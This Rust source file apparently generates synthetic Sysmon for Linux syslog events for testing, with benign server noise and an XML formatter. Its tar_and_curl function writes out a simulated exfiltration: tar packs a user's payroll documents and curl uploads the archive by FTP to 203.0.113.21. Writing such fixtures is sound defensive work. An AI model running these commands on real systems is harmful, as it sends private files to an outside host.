//! Test 5: Sysmon for Linux, in lines of syslog.

use std::fmt::Write;

use crate::event::Event;
use crate::program;
use crate::random::Random;
use crate::sysmon::{Host, Logon, Process};
use crate::time::FileTime;
use crate::value::{Guid, Value};

const PROVIDER: Guid = Guid {
    first: 0xFF03_2593,
    second: 0xA8D3,
    third: 0x4F13,
    rest: [0xB0, 0xD6, 0x01, 0xFC, 0x61, 0x5A, 0x0F, 0x97],
};

/// tar packs a folder and curl uploads the archive with FTP.
pub fn tar_and_curl(host: &Host, at: FileTime) -> Vec<Event> {
    let logon = user();
    let bash = host.process(at.before_millis(60_000), 2212, program::BASH, "-bash", &logon);
    let line = "tar czf /tmp/exfil.tar.gz /home/alice/Documents/Q4 payroll";
    let tar = host.process(at, 2229, program::TAR, line, &logon);
    let line = "curl --upload-file /tmp/exfil.tar.gz ftp://203.0.113.21/incoming/ --user anonymous:guest@example.com";
    let later = at.after_millis(900);
    let curl = host.process(later, 2231, program::LINUX_CURL, line, &logon);
    vec![
        host.process_create(at, &tar, &bash),
        host.file_create(at.after_millis(20), &tar, "/tmp/exfil.tar.gz"),
        host.process_create(later, &curl, &bash),
        host.network(later.after_millis(80), &curl, &host.connect(51_834, "203.0.113.21", 21)),
        host.network(later.after_millis(150), &curl, &host.connect(51_835, "203.0.113.21", 40_021)),
    ]
}

/// So many events of a server that does its work.
pub fn noise(host: &Host, start: FileTime, count: u64) -> Vec<Event> {
    let mut random = Random::new(crate::random::hash(&host.computer));
    let event = |number: u64| quiet_event(host, start.after_millis(number * 4000), number, &mut random);
    (0..count).map(event).collect()
}

fn quiet_event(host: &Host, at: FileTime, number: u64, random: &mut Random) -> Event {
    let commands = [
        (program::LS, "ls --color=auto -l /var/log/nginx"),
        (program::LINUX_CURL, "curl -fsS http://127.0.0.1/healthz"),
        (program::LINUX_PYTHON, "python3 /opt/app/manage.py clearsessions"),
        (program::APT, "apt-get -qq -y update"),
        (program::CRON, "/usr/sbin/CRON -f -P"),
    ];
    let (program, line) = random.pick(&commands).clone();
    let logon = user();
    let id = 2300 + number as u32;
    let process = host.process(at, id, program, line, &logon);
    let parent = host.process(FileTime::MIDNIGHT, 812, program::SSHD, "sshd: alice@pts/0", &logon);
    match random.below(3) {
        0 => host.file_create(at, &process, format!("/tmp/tmp.{}", random.hex(10))),
        1 => host.network(at, &nginx(host), &host.connect(40_000, "10.20.40.30", 5432)),
        _ => host.process_create(at, &process, &parent),
    }
}

fn nginx(host: &Host) -> Process {
    let logon = Logon { user: "www-data".into(), ..user() };
    host.process(FileTime::MIDNIGHT, 901, program::NGINX, "nginx: worker process", &logon)
}

fn user() -> Logon {
    Logon { user: "alice".into(), id: 1000, session: 3, integrity: "no level" }
}

/// Says that an event comes from Sysmon for Linux: another provider and channel.
#[must_use]
pub fn relabel(event: Event) -> Event {
    Event {
        provider: "Linux-Sysmon".into(),
        provider_guid: Some(PROVIDER),
        channel: "Linux-Sysmon/Operational".into(),
        process_id: 1465,
        thread_id: 1465,
        user_id: None,
        ..event
    }
}

/// The event as a line of syslog, as Sysmon for Linux writes it.
///
/// ```
/// use sluice_samples::linux::{relabel, tar_and_curl, to_syslog_line};
/// use sluice_samples::sysmon::Host;
/// use sluice_samples::time::FileTime;
///
/// let events = tar_and_curl(&Host::new("web01", "10.20.40.12"), FileTime::ATTACK);
/// let line = to_syslog_line(&relabel(events[0].clone()));
/// assert!(line.starts_with("Nov 24 21:14:02 web01 sysmon[1465]: <Event><System><Provider Name=\"Linux-Sysmon\""));
/// ```
pub fn to_syslog_line(event: &Event) -> String {
    let mut line = String::with_capacity(2048);
    // Writing to a String cannot fail.
    let _ = write_line(&mut line, event);
    line
}

fn write_line(line: &mut String, event: &Event) -> std::fmt::Result {
    let Event { event_id, version, record_id, process_id, thread_id, .. } = event;
    write!(line, "{} {} sysmon[{process_id}]: ", event.time.to_syslog_text(), event.computer)?;
    write!(line, "<Event><System><Provider Name=\"{}\"", event.provider)?;
    if let Some(guid) = event.provider_guid {
        write!(line, " Guid=\"{}\"", braced(guid))?;
    }
    write!(line, "/><EventID>{event_id}</EventID><Version>{version}</Version><Level>4</Level>")?;
    write!(line, "<Task>{event_id}</Task><Opcode>0</Opcode><Keywords>{:#x}</Keywords>", event.keywords)?;
    write!(line, "<TimeCreated SystemTime=\"{}\"/>", event.time.to_nanos_text())?;
    write!(line, "<EventRecordID>{record_id}</EventRecordID><Correlation/>")?;
    write!(line, "<Execution ProcessID=\"{process_id}\" ThreadID=\"{thread_id}\"/>")?;
    write!(line, "<Channel>{}</Channel><Computer>{}</Computer>", event.channel, event.computer)?;
    line.push_str("<Security UserId=\"0\"/></System><EventData>");
    for (name, value) in &event.data {
        write!(line, "<Data Name=\"{name}\">")?;
        match value {
            Value::Guid(guid) => line.push_str(&braced(*guid)),
            Value::Hex64(number) => write!(line, "{number}")?,
            value => push_escaped(line, &value.to_string()),
        }
        line.push_str("</Data>");
    }
    line.push_str("</EventData></Event>");
    Ok(())
}

fn braced(guid: Guid) -> String {
    format!("{{{}}}", guid.to_string().to_ascii_lowercase())
}

fn push_escaped(line: &mut String, text: &str) {
    line.push_str(&text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;"));
}
